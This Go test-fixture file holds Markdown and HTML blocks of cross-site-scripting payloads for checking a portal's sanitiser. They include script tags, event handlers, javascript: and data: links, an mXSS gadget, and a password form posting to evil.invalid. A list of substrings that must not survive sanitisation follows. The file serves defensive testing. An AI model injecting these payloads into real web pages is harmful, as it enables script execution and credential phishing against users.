package serviceowner

// hostileMarkdown is appended to the embeds of dialogs with FaultHostile: raw HTML and links a
// portal's sanitiser must neutralise. Every payload calls innboksXSS so a browser test can
// detect execution, and every external target is on evil.invalid.
const hostileMarkdown = `## Sanitiser test

<script>innboksXSS('script')</script>
<img src="x" onerror="innboksXSS('onerror')">
<svg onload="innboksXSS('svg')"><circle r="1"/></svg>
<a href="javascript:innboksXSS('href')">Raw link</a>
<a href="JaVaScRiPt:innboksXSS('mixedcase')">Mixed case link</a>
<a href="&#106;avascript:innboksXSS('entity')">Entity link</a>
<a href="data:text/html;base64,PHNjcmlwdD5pbm5ib2tzWFNTKCdkYXRhJyk8L3NjcmlwdD4=">Data link</a>
<iframe src="https://evil.invalid/frame"></iframe>
<object data="https://evil.invalid/object.swf"></object>
<embed src="https://evil.invalid/embed.swf">
<form action="https://evil.invalid/steal" method="post"><input type="password" name="pwd"><button>Logg inn</button></form>
<style>body { display: none !important; }</style>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('https://evil.invalid/overlay.png')">Overlay</div>
<meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<base href="https://evil.invalid/">
<link rel="stylesheet" href="https://evil.invalid/evil.css">
<p onclick="innboksXSS('onclick')" onmouseover="innboksXSS('onmouseover')">Click me</p>

[Markdown javascript link](javascript:innboksXSS('md'))
[Markdown vbscript link](vbscript:msgbox('md'))
![Markdown image](javascript:innboksXSS('img'))
[Data link](data:text/html;base64,PHNjcmlwdD5pbm5ib2tzWFNTKCdtZCcpPC9zY3JpcHQ+)
`

// hostileHTML is the legacy-HTML variant of hostileMarkdown.
const hostileHTML = `<h2>Sanitiser test</h2>
<script>innboksXSS('script')</script>
<img src="x" onerror="innboksXSS('onerror')">
<svg onload="innboksXSS('svg')"><circle r="1"/></svg>
<a href="javascript:innboksXSS('href')">Raw link</a>
<a href="JaVaScRiPt:innboksXSS('mixedcase')">Mixed case link</a>
<a href="&#106;avascript:innboksXSS('entity')">Entity link</a>
<a href="vbscript:msgbox('html')">VBScript link</a>
<a href="data:text/html;base64,PHNjcmlwdD5pbm5ib2tzWFNTKCdkYXRhJyk8L3NjcmlwdD4=">Data link</a>
<iframe src="https://evil.invalid/frame" srcdoc="<script>innboksXSS('srcdoc')</script>"></iframe>
<object data="https://evil.invalid/object.swf"></object>
<embed src="https://evil.invalid/embed.swf">
<form action="https://evil.invalid/steal" method="post"><input type="password" name="pwd"><button formaction="javascript:innboksXSS('formaction')">Logg inn</button></form>
<style>body { display: none !important; }</style>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url('https://evil.invalid/overlay.png')">Overlay</div>
<meta http-equiv="refresh" content="0;url=https://evil.invalid/">
<base href="https://evil.invalid/">
<link rel="stylesheet" href="https://evil.invalid/evil.css">
<p onclick="innboksXSS('onclick')" onmouseover="innboksXSS('onmouseover')">Click me</p>
<math><mtext><table><mglyph><style><img src=x onerror="innboksXSS('mxss')"></style></mglyph></table></mtext></math>
`

// HostileNeedles returns lower-case substrings that must not survive a sanitiser when the
// hostile content of FaultHostile dialogs is rendered (in element or attribute form).
func HostileNeedles() []string {
	return []string{
		"<script", "onerror", "onload", "onclick", "onmouseover", "javascript:", "vbscript:",
		"data:text/html", "<iframe", "<object", "<embed", "<form", "<input", "<style",
		"style=", "<meta", "<base", "<link", "<svg", "formaction", "srcdoc", "evil.invalid",
	}
}

// HostileMarkdown returns the Markdown block appended to FaultHostile embeds, so a sanitiser's
// tests can use it without a running emulator.
func HostileMarkdown() string { return hostileMarkdown }

// HostileHTML returns the legacy-HTML block appended to FaultHostile embeds.
func HostileHTML() string { return hostileHTML }
